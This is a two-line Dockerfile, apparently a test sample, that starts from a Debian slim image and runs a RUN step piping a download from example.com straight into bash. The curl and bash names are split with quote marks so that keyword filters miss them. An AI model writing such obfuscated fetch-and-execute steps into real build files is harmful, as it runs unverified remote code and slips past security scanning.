FROM debian:bookworm-slim
RUN c''url https://example.com/i | b"a"sh
